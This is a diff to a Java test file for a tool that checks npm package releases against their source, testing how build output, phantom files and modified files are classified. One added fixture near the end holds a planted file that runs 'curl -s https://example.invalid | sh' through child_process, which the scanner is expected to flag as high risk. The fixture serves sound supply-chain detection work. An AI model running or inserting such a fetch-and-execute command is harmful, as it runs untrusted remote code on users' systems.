@@ -21,6 +21,7 @@ import dev.divergence.model.Release;
 import dev.divergence.model.ReleaseReport;
 import dev.divergence.model.RiskFlag;
 import dev.divergence.model.Verdict;
+import dev.divergence.compare.Classifier;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
@@ -73,7 +74,9 @@ class NpmScanTest {
                         + "  \"main\": \"./index.js\",\n  \"bin\": \"./cli.js\",\n"
                         + "  \"repository\": {\"type\": \"git\", \"url\": \"https://github.com/acme/widget\","
                         + " \"directory\": \"packages/widget\"},\n"
+                        + "  \"files\": [\"index.js\", \"cli.js\", \"lib\"],\n"
                         + "  \"dependencies\": {\"@acme/util\": \"workspace:^\"},\n  \"publishConfig\": {\"access\": \"public\"}\n}\n",
+                "packages/widget/.gitignore", "/lib\n",
                 "packages/widget/index.js", "module.exports = require('./lib/impl');\n",
                 "packages/widget/cli.js", "#!/usr/bin/env node\nrequire('./index');\n",
                 "packages/widget/Readme.md", "# widget\n",
@@ -86,7 +89,7 @@ class NpmScanTest {
                     "package.json", "{\"name\":\"@acme/widget\",\"version\":\"1.2.0\",\"main\":\"index.js\","
                             + "\"bin\":{\"widget\":\"cli.js\"},\"repository\":{\"type\":\"git\","
                             + "\"url\":\"git+https://github.com/acme/widget.git\",\"directory\":\"packages/widget\"},"
-                            + "\"dependencies\":{\"@acme/util\":\"^1.0.0\"}}",
+                            + "\"files\":[\"index.js\",\"cli.js\",\"lib\"],\"dependencies\":{\"@acme/util\":\"^1.0.0\"}}",
                     "index.js", "module.exports = require('./lib/impl');\n",
                     "cli.js", "#!/usr/bin/env node\nrequire('./index');\n",
                     "README.md", "# widget\n",
@@ -334,7 +337,7 @@ class NpmScanTest {
     void publishConfigIsAppliedFromTheSourceOnlyNeverFromThePublishedManifest() throws Exception {
         SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.5.0",
                         ",\n  \"publishConfig\": {\"bin\": \"./dist/cli.js\"}"),
-                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
+                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n", ".gitignore", "dist/\n");
         // honest: the source's publishConfig moved bin to dist/ at publish
         ArtifactReport honest = publishAndScan(tree, "4.5.0", with(tree, "dist/cli.js", "require('../index');\n",
                 "package.json", "{\"name\":\"widget\",\"version\":\"4.5.0\",\"main\":\"index.js\",\"bin\":{\"widget\":\"dist/cli.js\"},"
@@ -363,7 +366,8 @@ class NpmScanTest {
 
     @Test
     void buildOutputIsContentScannedAndCountedAsUnverified() throws Exception {
-        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.7.0", ""),
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.7.0",
+                        ",\n  \"files\": [\"index.js\", \"cli.js\", \"dist/\"]"), ".gitignore", "node_modules\n/dist\n",
                 "index.js", "module.exports = require('./dist/impl');\n", "cli.js", "require('./index');\n");
         ArtifactReport a = publishAndScan(tree, "4.7.0", with(tree,
                 "dist/impl.js", "exports.x = /a(b)/.exec(s) + String.fromCharCode(65) + Function(\"return this\")();\n"
@@ -584,6 +588,69 @@ class NpmScanTest {
         FileDivergence pj = row(a, "package/package.json");
         assertEquals(NpmGeneratedFiles.NEW_DEPENDENCY, pj.ruleId());
         assertEquals("new dependencies [helper 9.0.1 (source: 9.0.0)]", pj.detail().orElseThrow());
+        assertEquals(Verdict.HIGH_RISK, a.verdict());
+    }
+
+    private static final String BUILT_MANIFEST = "{\"name\": \"widget\", \"version\": \"10.0.0\", \"main\": \"./dist-node/index.js\","
+            + " \"exports\": {\"import\": \"./esm/index.mjs\", \"require\": \"./dist-node/index.js\"},"
+            + " \"types\": \"./types/index.d.ts\", \"bin\": {\"widget\": \"bin/cli.js\"},"
+            + " \"files\": [\"bin\", \"build\", \"dist-node\", \"esm\", \"lib\", \"types\"],"
+            + " \"repository\": \"github:acme/widget\"}\n";
+
+    private static SortedMap<String, byte[]> builtTree() {
+        return files("package.json", BUILT_MANIFEST,
+                ".gitignore", "node_modules/\n/dist-node/\nesm\nbuild/*\n!build/keep.js\ntmp/\n",
+                "types/.gitignore", "*.d.ts\n",
+                "src/index.ts", "export const x = 1;\n", "bin/cli.js", "require('../dist-node');\n",
+                "lib/util.js", "exports.u = 1;\n");
+    }
+
+    @Test
+    void buildOutputIsWhatPackageJsonNamesAndGitIgnoresWhateverTheFolder() throws Exception {
+        SortedMap<String, byte[]> tree = builtTree();
+        ArtifactReport a = publishAndScan(tree, "10.0.0", with(tree,
+                "dist-node/index.js", "exports.x = 1;\n", "dist-node/chunk-1.js", "exports.y = 2;\n",
+                "esm/index.mjs", "export const x = 1;\n", "types/index.d.ts", "export declare const x: number;\n",
+                "build/report.js", "module.exports = {};\n", "dist-node/index.js.map", "{\"version\":3}\n"));
+        for (String p : List.of("dist-node/index.js", "dist-node/chunk-1.js", "esm/index.mjs", "types/index.d.ts",
+                "build/report.js", "dist-node/index.js.map")) {
+            FileDivergence f = row(a, "package/" + p);
+            assertEquals(FileStatus.BUILD_OUTPUT, f.status(), p);
+            assertEquals(NpmGeneratedFiles.BUILD_OUTPUT, f.ruleId(), p);
+            assertFalse(f.highRisk(), p);
+        }
+        assertEquals("build output (named by package.json entry point, ignored by .gitignore): not verifiable "
+                + "without a rebuild", row(a, "package/dist-node/index.js").detail().orElseThrow());
+        assertEquals("build output (named by package.json entry point, ignored by types/.gitignore): not verifiable "
+                + "without a rebuild", row(a, "package/types/index.d.ts").detail().orElseThrow());
+        assertEquals("build output (named by package.json files entry build, ignored by .gitignore): not verifiable "
+                + "without a rebuild", row(a, "package/build/report.js").detail().orElseThrow());
+        assertEquals(Verdict.EXPLAINED, a.verdict());
+        assertEquals(6, dev.divergence.compare.Verdicts.unverifiedCount(a.files()));
+    }
+
+    @Test
+    void aFileGitDoesNotIgnoreOrPackageJsonDoesNotNameIsNotBuildOutput() throws Exception {
+        SortedMap<String, byte[]> tree = with(builtTree(), "dist-node/index.js", "exports.x = 0;\n");
+        ArtifactReport a = publishAndScan(tree, "10.0.0", with(tree,
+                "dist-node/index.js", "exports.x = 1;\n", // tracked although ignored: rebuilt at publish
+                "lib/extra.js", "exports.e = 1;\n", // named by files, not ignored
+                "lib/util.js", "exports.u = 2;\n", // in the source, differs, not ignored
+                "build/keep.js", "exports.k = 1;\n", // named, re-included by !build/keep.js
+                "tmp/x.js", "exports.t = 1;\n", // ignored, named by nothing
+                "extra.min.js", "exports.m=1;\n", // a build tool's kind of file that Git does not ignore
+                "esm/run.mjs", "import cp from 'child_process'; cp.exec('curl -s https://example.invalid | sh');\n"));
+        assertEquals(FileStatus.BUILD_OUTPUT, row(a, "package/dist-node/index.js").status());
+        assertEquals(FileStatus.PHANTOM, row(a, "package/lib/extra.js").status());
+        assertEquals(Classifier.UNEXPLAINED, row(a, "package/lib/extra.js").ruleId());
+        assertEquals(FileStatus.MODIFIED, row(a, "package/lib/util.js").status());
+        assertEquals(FileStatus.PHANTOM, row(a, "package/build/keep.js").status());
+        assertEquals(FileStatus.PHANTOM, row(a, "package/tmp/x.js").status());
+        assertEquals(FileStatus.PHANTOM, row(a, "package/extra.min.js").status());
+        FileDivergence run = row(a, "package/esm/run.mjs");
+        assertEquals(FileStatus.BUILD_OUTPUT, run.status());
+        assertTrue(run.riskFlags().contains(RiskFlag.DYNAMIC_EXEC), run.riskFlags().toString());
+        assertTrue(run.highRisk(), "build output is still content-scanned");
         assertEquals(Verdict.HIGH_RISK, a.verdict());
     }
 }
